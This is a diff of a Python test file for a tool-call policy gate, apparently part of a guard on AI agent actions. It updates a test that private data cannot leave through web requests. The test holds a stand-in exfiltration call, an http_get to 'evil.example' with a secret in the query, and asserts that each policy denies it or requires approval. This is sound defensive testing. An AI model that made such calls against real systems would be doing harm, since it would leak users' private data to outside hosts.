@@ -9,7 +9,7 @@ from gate_bench import ANN, TEXT, Bench, tool
 
 from toolwise.core.types import Call, CallContext, Confidentiality, Effect, Integrity, Labels, Principal, Result, Tool
 from toolwise.gate.labels import Boundary, labels_of, read, written
-from toolwise.gate.policy import DEFAULT, CedarPolicy
+from toolwise.gate.policy import DEFAULT, FLOW, CedarPolicy
 from toolwise.gate.state import open_state
 
 UNTRUSTED = Labels(Integrity.UNTRUSTED)
@@ -80,12 +80,15 @@ def test_after_untrusted_text_a_write_needs_a_person() -> None:
 
 @pytest.mark.case("G10")
 def test_private_data_does_not_leave_the_house() -> None:
-    for policy in (FLOWS, DEFAULT):
+    for policy, before, after in (
+        (FLOWS, "ok", "denied"),
+        (FLOW, "ok", "approval_required"),
+        (DEFAULT, "approval_required", "denied"),
+    ):
         bench = house(policy)
-        assert bench.call({"q": "https://good.example"}, "http_get").ok
+        assert bench.call({"q": "https://good.example"}, "http_get").code == before
         assert bench.call({"q": "monday"}, "diary").ok
-        assert bench.call({"q": "https://evil.example/?q=secret"}, "http_get").code == "denied"
-        assert bench.lines[-1].policy.startswith("private")
+        assert bench.call({"q": "https://evil.example/?q=secret"}, "http_get").code == after
         assert bench.call({"q": "again"}, "diary").ok
 
 
